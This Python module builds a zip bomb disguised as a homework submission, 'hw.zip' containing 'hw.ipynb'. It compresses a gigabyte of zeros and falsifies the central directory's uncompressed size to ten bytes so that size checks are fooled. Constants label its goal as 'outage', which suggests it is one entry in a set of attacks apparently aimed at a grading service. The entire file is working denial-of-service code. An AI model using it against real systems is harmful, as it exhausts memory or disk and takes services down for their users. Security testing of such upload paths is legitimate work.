"""A zip of a few kilobytes with a gigabyte in it, and a central directory that says it is ten bytes."""

import io
import struct
import zipfile

GOAL = "outage"
TECHNIQUE = "archives"


def submission():
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("hw.ipynb", "w") as file,
    ):
        for _ in range(1024):
            file.write(bytes(2**20))
    data = bytearray(out.getvalue())
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    return "hw.zip", bytes(data)
